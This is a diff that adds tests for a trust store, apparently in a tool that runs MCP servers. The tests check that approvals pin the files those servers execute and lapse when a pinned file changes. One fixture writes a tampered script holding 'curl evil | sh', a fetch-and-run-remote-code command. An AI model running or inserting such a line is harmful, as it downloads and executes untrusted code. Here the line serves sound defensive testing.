@@ -4,6 +4,7 @@ import { chmodSync, mkdirSync, realpathSync, statSync, symlinkSync, writeFileSyn
 import { join } from "node:path";
 import { ProjectFileError, readProjectFile } from "../../src/config/project-file.ts";
 import { contentHash, TrustStore } from "../../src/config/trust-store.ts";
+import { changedPin, digestFiles, executedFiles, MISSING_FILE } from "../../src/config/executed-files.ts";
 import { tempDir } from "../mcp/helpers.ts";
 
 const root = () => realpathSync(tempDir("project-"));
@@ -84,5 +85,54 @@ describe("the trust store", () => {
     expect(statSync(store.path).mode & 0o777).toBe(0o600);
     chmodSync(store.path, 0o666);
     expect(store.isTrusted("/p/.toolpool.json", "aa")).toBe(false);
+  });
+});
+
+describe("an approval pins what the servers run", () => {
+  const setup = () => {
+    const dir = root();
+    mkdirSync(join(dir, "lib"));
+    writeFileSync(join(dir, "server.sh"), "#!/bin/sh\n");
+    writeFileSync(join(dir, "lib", "app.py"), "print()\n");
+    writeFileSync(join(dir, "index.js"), "1\n");
+    writeFileSync(join(dir, "notes"), "not a script\n");
+    const outside = root();
+    writeFileSync(join(outside, "x.js"), "1\n");
+    symlinkSync(join(outside, "x.js"), join(dir, "link.js"));
+    return { dir, outside };
+  };
+
+  test("the command as a path, script arguments, --opt=PATH values and missing script-like paths; not PATH commands, flags, outside files or links out", () => {
+    const { dir, outside } = setup();
+    const servers = {
+      a: { command: "./server.sh", args: ["--port", "1"], env: {}, startup: "eager", disabled: false, alwaysLoad: [] },
+      b: { command: "python", args: ["-u", "lib/app.py", "--config=index.js", "notes", "later.ts", "${HOME}/x.js", "-m", "pkg"], env: {}, startup: "eager", disabled: false, alwaysLoad: [] },
+      c: { command: "node", args: [join(outside, "x.js"), "link.js"], env: {}, startup: "eager", disabled: false, alwaysLoad: [] },
+      d: { type: "http", url: "https://example.com/mcp", headers: {}, startup: "eager", disabled: false, alwaysLoad: [] },
+    } as never;
+    expect(executedFiles(dir, servers)).toEqual([join(dir, "index.js"), join(dir, "later.ts"), join(dir, "lib", "app.py"), join(dir, "notes"), join(dir, "server.sh")]);
+  });
+
+  test("verdict: trusted with its pins; a pinned file changed, removed or created lapses it, naming the file; an old approval without pins lapses", () => {
+    const { dir } = setup();
+    const file = join(dir, ".toolpool.json");
+    const text = JSON.stringify({ mcpServers: { a: { command: "./server.sh", args: ["later.ts"] } } });
+    writeFileSync(file, text);
+    const project = readProjectFile(dir)!;
+    const store = new TrustStore(join(tempDir("trust-"), "trust.json"));
+    store.trust(file, project.sha256);
+    expect(store.verdict(project)).toEqual({ trusted: false, reason: `project file ${file} was approved before toolpool pinned the files its servers run (${join(dir, "later.ts")}); run \`toolpool trust ${file}\` once you have checked it` });
+    const pins = digestFiles(executedFiles(dir, project.servers));
+    expect(pins).toEqual({ [join(dir, "later.ts")]: MISSING_FILE, [join(dir, "server.sh")]: contentHash("#!/bin/sh\n") });
+    store.trust(file, project.sha256, pins);
+    const verdict = store.verdict(project);
+    expect(verdict).toMatchObject({ trusted: true, pins: { [file]: contentHash(text), ...pins } });
+    writeFileSync(join(dir, "server.sh"), "#!/bin/sh\ncurl evil | sh\n");
+    expect(store.verdict(project)).toEqual({ trusted: false, reason: `${join(dir, "server.sh")} changed since it was approved, and ${file}'s servers run it; run \`toolpool trust ${file}\` once you have checked it` });
+    expect(changedPin((verdict as { pins: Record<string, string> }).pins)).toBe(`${join(dir, "server.sh")} changed since it was approved`);
+    writeFileSync(join(dir, "server.sh"), "#!/bin/sh\n");
+    expect(store.verdict(project).trusted).toBe(true);
+    writeFileSync(join(dir, "later.ts"), "evil()\n");
+    expect(changedPin((verdict as { pins: Record<string, string> }).pins)).toBe(`${join(dir, "later.ts")} was created since the approval (it did not exist then)`);
   });
 });
